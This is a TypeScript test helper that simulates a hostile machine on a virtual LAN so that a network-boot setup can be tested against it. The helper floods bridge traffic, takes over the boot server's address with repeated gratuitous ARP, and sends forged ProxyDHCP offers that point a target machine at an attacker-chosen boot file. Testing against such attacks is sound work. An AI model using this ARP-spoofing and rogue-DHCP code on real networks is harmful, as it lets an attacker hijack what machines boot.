import {
  DHCP_MESSAGE,
  type DhcpPacket,
  decodeDhcp,
  dhcpAddress,
  encodeDhcp,
} from '../src/formats/net/dhcp.ts';
import { DHCP_OPTION, encodeEncapsulated } from '../src/formats/net/dhcp-options.ts';
import { messageType } from '../src/formats/net/dhcp-values.ts';
import { run } from './command.ts';
import { BROADCAST, decodeUdpFrame, encodeUdpFrame, gratuitousArp, type UdpFrame } from './ethernet.ts';
import { CARD, createHost } from './host.ts';
import { LAN_ADDRESS, type Lan } from './lan.ts';
import { openRawCard } from './raw-card.ts';

export const NEIGHBOUR_ADDRESS = '10.77.0.66';

/** An offer of its own, preferred by whoever knows preferences. */
export interface ForgedOffer {
  /** Of the machine that is lied to. */
  readonly mac: string;
  /** What it is told to load. */
  readonly file: string;
}

/** What it did so far. */
export interface Mischief {
  /** Frames that it sent. */
  sent(): number;
  stop(): void;
}

/**
 * A hostile machine on a LAN. The LAN is a hub for it: it sees every frame of ARP and UDP, also those for others, and
 * sends any, from whatever address.
 */
export interface Neighbour {
  /** Its namespace, with a card of its own. */
  readonly host: Lan;
  /** From the moment on that `mac` asks for an address without naming PXE, as GRUB does: the server's address is its own. */
  stealServerFrom(mac: string): Promise<Mischief>;
  /** After `stop`: nobody answers here under the server's address any more. */
  giveServerBack(): Promise<void>;
  offer(forged: ForgedOffer): Mischief;
  close(): Promise<void>;
}

const PXE = Buffer.from('PXEClient');
/** How often it says where the server is: whoever learns the truth forgets it soon. */
const AGAIN_MS = 20;
export async function hostileNeighbour(lan: Lan): Promise<Neighbour> {
  // A bridge that forgets at once where an address is floods every frame to every port.
  await run('ip', ['-n', lan.name, 'link', 'set', 'br0', 'type', 'bridge', 'ageing_time', '0']);
  const host = await createHost(lan, `${NEIGHBOUR_ADDRESS}/24`);
  const card = await openRawCard(host, CARD);

  /** Calls `hear` for datagrams, and counts what it has sent back. */
  function mischief(hear: (udp: UdpFrame, send: (frame: Buffer) => void) => void): Mischief {
    let sent = 0;
    const stop = card.listen((frame) => {
      const udp = decodeUdpFrame(frame);
      if (udp)
        hear(udp, (answer) => {
          sent += 1;
          card.send(answer);
        });
    });
    return { sent: () => sent, stop };
  }

  return {
    host,
    async stealServerFrom(mac) {
      // What reaches this card under that address is then answered by whoever listens here.
      await host.execute('ip', ['addr', 'add', `${LAN_ADDRESS}/32`, 'dev', CARD]);
      let claiming: NodeJS.Timeout | undefined;
      let sent = 0;
      const claim = () => {
        sent += 1;
        card.send(gratuitousArp(card.mac, LAN_ADDRESS));
      };
      const waiting = mischief((udp) => {
        if (claiming || question(udp)?.options.has(DHCP_OPTION.vendorClass) !== false || udp.from !== mac)
          return;
        claim();
        claiming = setInterval(claim, AGAIN_MS);
      });
      return {
        sent: () => sent,
        stop() {
          waiting.stop();
          clearInterval(claiming);
        },
      };
    },
    async giveServerBack() {
      await host.execute('ip', ['addr', 'del', `${LAN_ADDRESS}/32`, 'dev', CARD]);
    },
    offer({ mac, file }) {
      return mischief((udp, send) => {
        if (udp.from !== mac) return;
        const packet = question(udp);
        if (!packet?.options.has(DHCP_OPTION.vendorClass)) return;
        send(
          encodeUdpFrame({
            ...{ from: card.mac, to: BROADCAST, source: NEIGHBOUR_ADDRESS, destination: '255.255.255.255' },
            ...{ sourcePort: 67, destinationPort: 68, payload: proxyOffer(packet, file) },
          }),
        );
      });
    },
    async close() {
      await card.stop();
      await host.close();
    },
  };
}

/** What a machine asks over DHCP. */
function question(udp: UdpFrame): DhcpPacket | undefined {
  if (udp.destinationPort !== 67) return undefined;
  const packet = decodeDhcp(udp.payload);
  return messageType(packet.options) === DHCP_MESSAGE.discover ? packet : undefined;
}

/** As a ProxyDHCP server says it (PXE 2.1 §2), with the highest preference that iPXE knows. */
function proxyOffer(packet: DhcpPacket, file: string): Buffer {
  return encodeDhcp({
    ...{ op: 2, htype: 1, hlen: 6, hops: 0, xid: packet.xid, secs: 0, broadcast: true },
    ...{ ciaddr: '0.0.0.0', yiaddr: '0.0.0.0', siaddr: NEIGHBOUR_ADDRESS, giaddr: '0.0.0.0' },
    ...{ chaddr: packet.chaddr, sname: '', file },
    options: new Map<number, Uint8Array>([
      [DHCP_OPTION.messageType, Buffer.of(DHCP_MESSAGE.offer)],
      [DHCP_OPTION.serverIdentifier, dhcpAddress(NEIGHBOUR_ADDRESS)],
      [DHCP_OPTION.vendorClass, PXE],
      [DHCP_OPTION.ipxe, encodeEncapsulated(new Map([[1, Buffer.of(127)]]), false)],
    ]),
  });
}
